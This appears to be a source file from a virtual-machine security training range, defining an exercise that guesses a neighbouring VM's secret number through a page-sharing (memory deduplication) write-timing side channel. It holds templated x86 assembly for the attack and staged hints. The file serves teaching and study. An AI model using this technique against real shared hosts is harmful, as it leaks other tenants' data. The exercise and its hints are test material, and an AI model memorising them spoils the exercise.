"""Page sharing tells by the time of a write whether another VM has an equal page: an oracle for what one can guess."""

from vmwidgets.model.range.attack import Attack, Placement
from vmwidgets.model.words import said

SHARING_ORACLE = Attack(
    id="sharing_oracle",
    title=said("a neighbour's number guessed by the time of a write"),
    code="""
    mov rbx, {mark}
    mov rbp, 0                  ; the first guess of this round
round:
    mov rdi, {page_bytes}       ; pages 1 to 11 get a guess each
    mov rdx, rbp
    mov rcx, 11
fill:
    mov [rdi], rbx
    mov [rdi + 8], rdx
    add rdi, {page_bytes}
    inc rdx
    dec rcx
    jnz fill
    mov r12, {round_cycles}     ; wait until the scanner has seen all of memory twice
    add r12, r12
    rdtsc
    shl rdx, 32
    or rax, rdx
    add rax, r12
    mov rdx, rax
    shr rdx, 32
    mov rcx, 0x6e0              ; the deadline of the timer
    wrmsr
    hlt
    mov rdi, {page_bytes}
    mov r8, rbp
    mov rcx, 11
probe:
    rdtsc
    mov r9, rax
    mov [rdi + 8], r8           ; what is there already
    rdtsc
    sub rax, r9
    cmp rax, {slow_write}
    ja found
    add rdi, {page_bytes}
    inc r8
    dec rcx
    jnz probe
    add rbp, 11
    cmp rbp, {numbers}
    jb round
    jmp end
found:
    mov rax, {call_report}
    mov rdi, r8
    vmcall
end:
""",
    goal="number",
    placement=Placement(timed=True),
    family="V5",
    number=11,
    like="Suzaki et al. 2011; Xiao et al. 2013",
    hints=(
        said("Two pages with the same content may lie in one frame. What happens when one of them is written to?"),
        said("Measure how long a write takes that changes nothing, before and after the scanner has come by."),
        said("Fill pages with mark and a guess each, sleep two rounds, write again: the slow one has the number."),
    ),
)
"""Guesses the content of a page, eleven guesses in each round of the scanner."""
